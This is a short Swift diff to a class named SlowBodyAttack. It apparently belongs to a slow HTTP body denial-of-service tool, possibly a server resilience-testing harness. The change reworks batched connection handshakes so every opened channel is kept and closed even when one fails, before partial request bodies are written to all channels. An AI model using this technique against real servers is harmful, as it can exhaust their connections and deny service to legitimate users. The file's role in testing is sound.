@@ -112,10 +112,19 @@ final class SlowBodyAttack: Sendable {
             let targets = sources.flatMap { Array(repeating: $0, count: perSource) }
             for start in stride(from: 0, to: targets.count, by: handshakeBatch) {
                 let batch = targets[start..<min(start + handshakeBatch, targets.count)]
-                channels += try await withThrowingTaskGroup(of: (any Channel).self) { group in
-                    for source in batch { group.addTask { try await handshaken(from: source, port: port, context: context) } }
-                    return try await group.reduce(into: []) { $0.append($1) }
+                // Every connection of the batch is kept (and so closed below) even when another one failed.
+                let opened = await withTaskGroup(of: Result<any Channel, any Error>.self) { group in
+                    for source in batch {
+                        group.addTask {
+                            do { return .success(try await handshaken(from: source, port: port, context: context)) } catch { return .failure(error) }
+                        }
+                    }
+                    return await group.reduce(into: []) { $0.append($1) }
                 }
+                for outcome in opened {
+                    if case .success(let channel) = outcome { channels.append(channel) }
+                }
+                for case .failure(let error) in opened { throw error }
             }
             let bytes = ByteBuffer(string: head + "{")
             for channel in channels { channel.writeAndFlush(bytes, promise: nil) }
